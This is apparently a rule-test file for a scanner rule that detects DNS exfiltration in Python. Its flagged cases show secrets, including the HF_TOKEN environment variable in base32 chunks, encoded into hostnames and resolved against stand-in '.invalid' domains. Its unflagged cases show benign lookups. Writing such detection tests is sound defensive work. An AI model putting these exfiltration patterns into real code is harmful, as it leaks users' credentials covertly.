import base64
import os
import socket

import dns.resolver


def beacon(secret):
    # ruleid: hubguard.dns-exfiltration
    socket.gethostbyname(f"{secret}.collector.invalid")


def chunked():
    data = base64.b32encode(os.environ.get("HF_TOKEN", "").encode()).decode()
    for index in range(0, len(data), 60):
        host = data[index : index + 60] + ".x.invalid"
        # ruleid: hubguard.dns-exfiltration
        socket.getaddrinfo(host, 53)


def with_dnspython(user):
    name = ".".join([user.hex(), "t", "invalid"])
    # ruleid: hubguard.dns-exfiltration
    dns.resolver.resolve(name, "TXT")


def own_address():
    # ok: hubguard.dns-exfiltration
    return socket.gethostbyname(socket.gethostname())


def master_address():
    # ok: hubguard.dns-exfiltration
    return socket.getaddrinfo(os.environ["MASTER_ADDR"], int(os.environ["MASTER_PORT"]))


def fixed_host():
    # ok: hubguard.dns-exfiltration
    return socket.gethostbyname("huggingface.co")
